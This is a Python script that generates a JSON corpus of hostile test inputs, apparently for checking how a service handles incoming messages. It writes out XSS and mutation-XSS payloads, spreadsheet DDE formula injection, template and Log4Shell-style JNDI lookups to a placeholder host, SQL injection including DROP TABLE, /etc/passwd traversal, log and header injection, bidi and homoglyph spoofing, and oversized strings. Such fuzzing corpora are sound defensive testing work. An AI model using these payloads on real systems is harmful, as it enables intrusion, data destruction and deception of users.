#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Texts that try to be more than text; payloads.json is made of them.

Each is {"kind", "text"}. What they try: to be run as a script, to be parsed
as markup, to hide or to run backwards, to pile up over their neighbours, to
be calculated by a spreadsheet, to be filled in by a template, to begin a line
of a log or a header of their own, to be longer than anything expected.

usage: payloads.py >payloads.json
"""
import json
import sys

CALL = "siagaHit(1)"  # a function that the test looks for

TAGS = ["script", "img", "svg", "body", "video", "audio", "iframe", "object",
        "embed", "details", "marquee", "input", "select", "textarea", "style",
        "math", "form", "button", "template", "base", "link", "meta"]
EVENTS = ["onload", "onerror", "onclick", "onmouseover", "onfocus",
          "onanimationstart", "ontoggle", "onpointerenter", "onbeforeinput",
          "onauxclick", "onwheel", "oncopy"]
SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:",
           "javascript&colon;", "vbscript:", "data:text/html,", "blob:",
           "view-source:javascript:", "jav&#x09;ascript:"]
BREAKS = ['"', "'", "`", '">', "'>", "-->", "]]>", "</script>", "</title>",
          "</textarea>", "</style>", "*/", "\\", "\\u003c", "%3C", "&lt;"]
INVISIBLE = [0x00AD, 0x034F, 0x061C, 0x115F, 0x1160, 0x17B4, 0x180E, 0x200B,
             0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x2060, 0x2061,
             0x2064, 0x206A, 0x206F, 0x2800, 0x3164, 0xFE00, 0xFE0F, 0xFEFF,
             0xFFA0, 0xFFF9, 0xFFFB, 0xE0001, 0xE0041, 0xE007F, 0xE0100]
DIRECTION = [0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068,
             0x2069]
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://x.example","klik")', "=WEBSERVICE(\"http://x.example\")",
            '=IMPORTXML("http://x.example","//a")', "\t=1+1", "\r=1+1",
            "%0A=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+62+cmd|' /C calc'!A0",
            ";=1+1", "|calc", "＝1+1"]
TEMPLATES = ["{code}", "{cover}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
             "{% debug %}", "[[${7*7}]]", "{n}{name}{reason}", "%s%s%s%n",
             "%(code)s", "$(id)", "`id`", "${jndi:ldap://x.example/a}",
             "{{constructor.constructor('%s')()}}" % CALL, "__proto__",
             "constructor", "toString", "{\"__proto__\":{\"x\":1}}"]
LOG = ["\nts=2026-01-01T00:00:00Z level=error prog=siagad event=panic",
       "\r\nSet-Cookie: s=1", "\r\n\r\nHTTP/1.1 200 OK", " event=ready level=info",
       "\" event=\"x", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b[31mmerah",
       "\x08\x08\x08", "\x7f", "data: {\"kind\":\"panic\"}\n\n", "\nevent: session\n",
       "\x00nol", "a\x00b", "\x0b\x0c"]
SQL = ["' OR 1=1 --", "'; DROP TABLE report; --", "\" OR \"\"=\"", "1; ATTACH 'x'",
       "%' --", "_", "*", "\\'"]
PATHS = ["../../../../etc/passwd", "..%2f..%2f", "/api/v1/reports/../panic",
         "file:///etc/passwd", "C:\\Windows", "//x.example/a", "?as=1", "#!/bin/sh"]
LINKS = ["http://x.example/a?b=1", "https://x.example", "www.x.example",
         "x.example/klik", "mailto:a@x.example", "tel:+6281234567890",
         "sms:+6281234567890?body=x", "ftp://x.example", "wa.me/6281234567890",
         "[klik](http://x.example)", "<http://x.example>",
         "http://xn--80ak6aa92e.com", "http://рaypal.example"]
MUTATIONS = ["<noscript><p title=\"</noscript><img src=x onerror=%s>\">" % CALL,
             "<math><mtext><table><mglyph><style><img src=x onerror=%s>" % CALL,
             "<svg><style><img src=x onerror=%s></style></svg>" % CALL,
             "<form><math><mtext></form><form><mglyph><style></math><img src onerror=%s>" % CALL,
             "<a href=\"javascript:%s\">klik</a>" % CALL,
             "<base href=\"//x.example/\">", "<meta http-equiv=refresh content=0>",
             "<style>*{display:none}</style>", "<div style=\"position:fixed;inset:0\">x</div>",
             "<img src=x onerror=&#115;iagaHit(1)>", "<svg/onload=%s>" % CALL,
             "<script>%s</script>" % CALL, "<ScRiPt>%s</sCrIpT>" % CALL,
             "<scr<script>ipt>%s</scr</script>ipt>" % CALL,
             "<script src=//x.example/a.js></script>", "<!--<img src=--><img src=x onerror=%s>" % CALL,
             "<![CDATA[<script>%s</script>]]>" % CALL, "<template><script>%s</script></template>" % CALL,
             "<slot onslotchange=%s>" % CALL, "<x onclick=%s tabindex=1 autofocus>x" % CALL,
             "\"onmouseover=%s x=\"" % CALL, "'-%s-'" % CALL, "\\\"-%s//" % CALL,
             "</p><p onclick=%s>" % CALL, "＜script＞%s＜/script＞" % CALL]


def zalgo(base, marks):
    pile = "".join(chr(0x300 + i % 0x6F) for i in range(marks))
    return "".join(letter + pile for letter in base)


def payloads():
    for tag in TAGS:
        for event in EVENTS[:4]:
            yield "xss", f"<{tag} src=x {event}={CALL}>tolong</{tag}>"
    for event in EVENTS[4:]:
        yield "xss", f"<b {event}={CALL} autofocus tabindex=1>tolong</b>"
    for scheme in SCHEMES:
        yield "xss", f"<a href=\"{scheme}{CALL}\">klik</a>"
        yield "xss", f"{scheme}{CALL}"
    for mark in BREAKS:
        yield "xss", f"{mark}<img src=x onerror={CALL}>"
    for text in MUTATIONS:
        yield "xss", text
    for point in INVISIBLE:
        yield "invisible", f"to{chr(point)}long suami{chr(point)} memukul"
    for point in DIRECTION:
        yield "bidi", f"aman {chr(point)}lukumem imaus{chr(0x202C)} saya"
    yield "bidi", "\u202eGNP.exe saya takut"
    yield "bidi", "".join(map(chr, DIRECTION)) * 20
    for marks in (1, 3, 10, 50):
        yield "zalgo", zalgo("tolong", marks)
    yield "zalgo", "ا" + "\u064b" * 60
    yield "zalgo", "ก" + "็" * 80
    yield "zalgo", "👩‍👩‍👧‍👦" * 20 + "\u200d" * 30
    for group, texts in (("formula", FORMULAS), ("template", TEMPLATES),
                         ("log", LOG), ("sql", SQL), ("path", PATHS),
                         ("link", LINKS)):
        for text in texts:
            yield group, text
    yield "long", "a" * 10000
    yield "long", "tolong " * 1429
    yield "long", "<b>" * 3334
    yield "long", "\u202e" * 2000 + "a" * 8000
    yield "long", "😢" * 5000
    yield "long", "\n" * 500 + "tolong"
    yield "long", zalgo("a" * 100, 99)
    for text in ("", " ", ".", "null", "undefined", "NaN", "true", "[]", "{}", "0", "-1",
                 "1e309", "\ufffd", "\ud7ff", "𝕿𝖔𝖑𝖔𝖓𝖌", "ｔｏｌｏｎｇ", "ТОЛОНГ", "t0l0ng"):
        yield "odd", text


def main():
    rows = [{"kind": kind, "text": text} for kind, text in payloads()]
    texts = {row["text"] for row in rows}
    assert len(texts) >= 300, len(texts)
    sys.stdout.write("[\n" + ",\n".join(
        json.dumps(row, ensure_ascii=True) for row in rows) + "\n]\n")


main()
